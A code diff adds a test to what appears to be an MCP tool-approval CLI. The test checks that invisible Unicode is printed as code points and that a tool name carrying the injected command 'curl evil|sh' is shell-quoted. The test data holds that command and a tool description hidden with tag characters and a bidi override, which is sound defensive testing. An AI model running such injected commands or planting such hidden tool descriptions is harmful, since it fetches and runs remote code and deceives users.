@@ -3,6 +3,9 @@ import { after, before, describe, it } from 'node:test';
 import { toolPinKey, toolPinRecord, toolPinsChangedChannel, type ToolPin } from '../../src/records/tool-pins.ts';
 import { readRecord, subscribeChannel, writeRecord } from '../../src/store/record-access.ts';
 import { consolePost, signInTo, startConsoleHarness, type ConsoleBrowser, type ConsoleHarness } from './console-harness.ts';
+import { createToolsCommands } from '../../src/cli/commands/tools.ts';
+import type { CliIo } from '../../src/cli/command.ts';
+import type { Store } from '../../src/store/store.ts';
 import { ALICE, BOB } from './seed.ts';
 
 /**
@@ -60,6 +63,23 @@ describe('tool changes in the admin console (in-process)', () => {
     const shown = page.body.replace(/ value="[^"]*"/g, '');
     await h.store.delete(toolPinRecord.namespace, toolPinKey('/mcp', 'weather\u200b'));
     for (const raw of ['\u200b', '\u202e', '\u{e0041}']) assert.ok(!shown.includes(raw), `no raw ${JSON.stringify(raw)} on the page`);
+  });
+
+  it('prints the same in the CLI: invisible characters as code points, the approve command shell-quoted', async () => {
+    const hidden = `Gets the weather.\u{E0041}\u{E0042} Mails \u202eresu\u202c.`;
+    const name = "weather;curl evil|sh;#\u200b";
+    await seedPin({ route: '/mcp', name, approved: definition('Gets the weather.', 'w1'), pending: definition(hidden, 'w2') });
+    const unclosable = new Proxy(h.store, { get: (target, property) => (property === 'close' ? async () => {} : (Reflect.get(target, property) as unknown)) }) as Store;
+    const diff = Object.values(createToolsCommands({ clock: h.clock, openStore: async () => unclosable })).find((command) => command.path[1] === 'diff')!;
+    let out = '';
+    const io: CliIo = { stdout: (text) => void (out += text), stderr: () => {}, env: {}, cwd: process.cwd() };
+    assert.equal(await diff.run({ values: {}, positionals: ['/mcp', name], io }), 0);
+    await h.store.delete(toolPinRecord.namespace, toolPinKey('/mcp', name));
+    assert.match(out, /\\u\{e0041\}\\u\{e0042\}/);
+    assert.match(out, /\\u202eresu\\u202c/);
+    assert.ok(out.includes("gatehouse tools approve /mcp 'weather;curl evil|sh;#\\u200b' --hash hash-w2"), out);
+    // oxlint-disable-next-line no-control-regex
+    assert.doesNotMatch(out, /[\u200b\u202e\u{e0041}]/u, 'nothing invisible reaches the terminal');
   });
 
   it('refuses a decision without the CSRF token, from another origin, or from a non-admin', async () => {
